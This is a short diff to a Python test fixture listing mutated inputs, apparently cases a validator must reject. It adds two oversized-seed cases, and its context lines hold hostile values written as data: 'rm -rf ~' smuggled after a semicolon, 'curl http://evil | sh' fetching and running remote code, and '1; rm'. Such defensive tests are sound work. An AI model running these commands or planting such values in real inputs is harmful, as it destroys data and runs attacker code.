@@ -379,6 +379,8 @@ CHANGES: dict[str, Change] = {
     "precision": changed(about={"model": "m", "precision": "fp32; rm -rf ~"}),
     "command": changed(command="curl http://evil | sh"),
     "seeds": changed(seeds=["1; rm"]),
+    "endless seeds": changed(seeds=list(range(2000))),
+    "a huge seed": changed(seeds=[10**4000]),
     "no hash": changed(members={}),
     "hash": changed(members={CROP: "0" * 64, WORLD: "0" * 64}),
     "missing member": without(CROP),
